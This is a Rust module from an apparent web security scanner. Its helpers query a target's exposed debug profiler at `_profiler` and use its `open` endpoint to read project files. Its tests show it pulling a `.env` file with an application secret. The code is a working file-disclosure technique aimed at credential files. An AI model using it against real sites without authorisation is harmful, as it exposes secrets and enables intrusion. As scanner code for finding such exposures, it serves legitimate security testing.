//! Helpers talking to the web profiler of the target.
//!
//! Free functions taking the scan context explicitly, shared by every module.

use crate::context::ScanContext;
use crate::parser::PreviewParser;
use crate::types::{Probe, ProbeResult, Response, Result};
use std::sync::LazyLock;
use tracing::debug;

/// Mount point of the profiler.
pub const PROFILER_PATH: &str = "_profiler";

static PREVIEW: LazyLock<PreviewParser> = LazyLock::new(PreviewParser::new);

/// `<base>/_profiler` or `<base>/_profiler/<token>`.
pub fn url(base: &str, token: &str) -> String {
    let base = base.trim_end_matches('/');
    if token.is_empty() {
        format!("{}/{}", base, PROFILER_PATH)
    } else {
        format!("{}/{}/{}", base, PROFILER_PATH, token.trim_start_matches('/'))
    }
}

/// GET a profiler page right away.
pub async fn get(ctx: &mut ScanContext, token: &str, params: &[(&str, &str)]) -> Result<Response> {
    let mut probe = Probe::get(url(&ctx.url, token));
    for (key, value) in params {
        probe = probe.param(key, value);
    }
    debug!("{}", probe.url);
    ctx.send(probe).await
}

/// Probe previewing one project file through `_profiler/open`.
pub fn open_probe(base: &str, path: &str) -> Probe {
    Probe::get(url(base, "open"))
        .param("file", path)
        .param("line", 1)
}

/// Content extractor for file previews: absent unless the profiler actually
/// rendered the file.
pub fn preview(result: &ProbeResult) -> Option<String> {
    result
        .response()
        .filter(|r| PREVIEW.is_preview(r.status, &r.body))
        .map(|r| PREVIEW.parse(&r.body))
}

/// Preview one project file right away. `Ok(None)` when it can't be read.
pub async fn open(ctx: &mut ScanContext, path: &str) -> Result<Option<String>> {
    let probe = open_probe(&ctx.url, path);
    let token = probe.token.clone();
    let response = ctx.send(probe).await?;
    Ok(preview(&ProbeResult {
        token,
        outcome: Ok(response),
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::transport::mock::MockTransport;
    use std::sync::Arc;

    #[test]
    fn test_url() {
        assert_eq!(url("http://t/", ""), "http://t/_profiler");
        assert_eq!(url("http://t", "latest"), "http://t/_profiler/latest");
        assert_eq!(url("http://t", "/open"), "http://t/_profiler/open");
    }

    #[tokio::test]
    async fn test_open() {
        let transport = MockTransport::new()
            .route(
                "http://t/_profiler/open?file=.env&line=1",
                200,
                "<code>APP_ENV=dev</code><code>APP_SECRET=s3cr3t</code>",
            )
            .route(
                "http://t/_profiler/open?file=missing&line=1",
                200,
                "<h2>Token not found</h2>",
            );
        let mut ctx = ScanContext::new("http://t", Arc::new(transport));

        let env = open(&mut ctx, ".env").await.unwrap();
        assert_eq!(env.as_deref(), Some("APP_ENV=dev\nAPP_SECRET=s3cr3t"));
        assert_eq!(open(&mut ctx, "missing").await.unwrap(), None);
        assert_eq!(open(&mut ctx, "nope").await.unwrap(), None);
        assert_eq!(ctx.requests.len(), 3);
    }

    #[tokio::test]
    async fn test_get_with_params() {
        let transport = MockTransport::new().route(
            "http://t/_profiler/latest?panel=config",
            200,
            "config",
        );
        let mut ctx = ScanContext::new("http://t", Arc::new(transport));
        let response = get(&mut ctx, "latest", &[("panel", "config")]).await.unwrap();
        assert_eq!(response.body, "config");
    }
}
